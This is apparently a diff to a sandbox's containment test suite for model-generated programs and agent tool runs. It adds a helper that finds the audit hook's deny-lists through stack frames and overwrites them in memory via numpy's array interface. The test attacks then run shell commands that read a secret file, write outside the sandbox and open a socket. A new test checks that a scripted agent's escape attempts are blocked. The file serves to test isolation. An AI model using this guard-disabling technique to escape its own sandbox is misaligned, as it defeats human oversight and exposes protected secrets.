@@ -60,6 +60,30 @@ imp = RB['__import__']
 def libc():
     ct = imp('ctypes')
     return ct.CDLL(None, use_errno=True)
+def rewrite_guard(names):
+    # the frames above the program lead to the sandbox's own code and to its audit hook,
+    # whose deny-lists are default arguments; numpy's __array_interface__ then overwrites
+    # the items of those tuples in place, which no audit event sees
+    import sys, numpy as np
+    box = {{}}
+    f = sys._getframe(1)
+    while f is not None:
+        hook = f.f_locals.get('hook')
+        if callable(hook) and hook.__defaults__:
+            names_ = hook.__code__.co_varnames[2:2 + len(hook.__defaults__)]
+            box.update(zip(names_, hook.__defaults__))
+            break
+        f = f.f_back
+    class Mem:
+        def __init__(self, addr, n):
+            self.__array_interface__ = {{'data': (addr, False), 'shape': (n,),
+                                         'typestr': '<u8', 'version': 3}}
+    keep = ['no-such-event.']
+    for key in names:
+        t = box.get(key)
+        if t:
+            np.asarray(Mem(id(t) + 24, len(t)))[:] = id(keep[0])
+    return box
 def escaped(*what):
     print('ESC' + 'APED', *what)
 def outdir():
@@ -375,50 +399,13 @@ escaped(os.lstat(OUTSIDE + '/keep.txt').st_size)
 """),
     # ---- 5. the guard switched off; C-level spawners; the network ------------------------
     Attack("frame-array-interface-rewrite", "guard", """
-import sys, os, numpy as np
-box = {}
-class P:
-    def __fspath__(self):
-        f = sys._getframe(1)
-        while f is not None and '_denied_events' not in f.f_locals:
-            f = f.f_back
-        if f is not None:
-            box.update(f.f_locals)
-        return 'x.txt'
-open(P(), 'w').close()
-class Mem:
-    def __init__(self, addr, n):
-        self.__array_interface__ = {'data': (addr, False), 'shape': (n,), 'typestr': '<u8',
-                                    'version': 3}
-harmless = 'no-such-event.'
-for key in ('_denied_events', '_write_events', '_read_events', '_denied_modules'):
-    t = box.get(key)
-    if t:
-        np.asarray(Mem(id(t) + 24, len(t)))[:] = id(harmless)
+import os
+rewrite_guard(('_denied_events', '_write_events', '_read_events', '_denied_modules'))
 os.system(f'cat {SECRET}; touch {OUTSIDE}/pwned; sleep 100 # {MARKER}')
 escaped('system')
 """, expect=KILLED),
     Attack("frame-rewrite-then-connect", "guard", """
-import sys, numpy as np
-box = {}
-class P:
-    def __fspath__(self):
-        f = sys._getframe(1)
-        while f is not None and '_denied_events' not in f.f_locals:
-            f = f.f_back
-        if f is not None:
-            box.update(f.f_locals)
-        return 'x.txt'
-open(P(), 'w').close()
-class Mem:
-    def __init__(self, addr, n):
-        self.__array_interface__ = {'data': (addr, False), 'shape': (n,), 'typestr': '<u8',
-                                    'version': 3}
-harmless = 'no-such-event.'
-for key in ('_denied_events', '_denied_modules'):
-    t = box.get(key)
-    if t:
-        np.asarray(Mem(id(t) + 24, len(t)))[:] = id(harmless)
+rewrite_guard(('_denied_events', '_denied_modules'))
 so = imp('_socket')
 s = so.socket(so.AF_INET, so.SOCK_STREAM)
 s.connect(('127.0.0.1', PORT))
@@ -803,3 +790,21 @@ def test_attack_is_contained(attack, canaries, guard):
         attack.unguarded
     if expect:
         assert (reason or "ok") in expect, (reason, texts[-2:])
+
+
+def test_agent_tool_runs_are_isolated_too(canaries):
+    """The Agent's tool code runs under the same isolation as a returned program: the
+    C-level spawner left by scikit-learn's import, and a read of the secret, in a tool run."""
+    spawn = next(a for a in ATTACKS if a.name == "posixsubprocess-after-sklearn")
+    tool_code = canaries.prelude() + spawn.source
+    final = "def predict(X_train, y_train, X):\n    return [0.0] * len(X)\n"
+    replies = iter([f"```python\n{tool_code}```",
+                    f"```python\n{canaries.prelude()}print(open(SECRET).read())\n```",
+                    f"FINAL PROGRAM\n```python\n{final}```"])
+    agent = rx.Agent(lambda messages: next(replies), model="scripted", limits=LIMITS,
+                     tool_limits=LIMITS, record_transcript=True)
+    rule = agent.fit(SAMPLE, np.random.default_rng(0))
+    first, second = (r["reason"] for r in rule.info["tool_runs"])
+    assert first == "forbidden" and second in ("forbidden", "crash")
+    assert rule.info["tool_isolation"] == "full" and rule.info["isolation"] == "full"
+    canaries.check([m["content"] for m in rule.info["transcript"]])
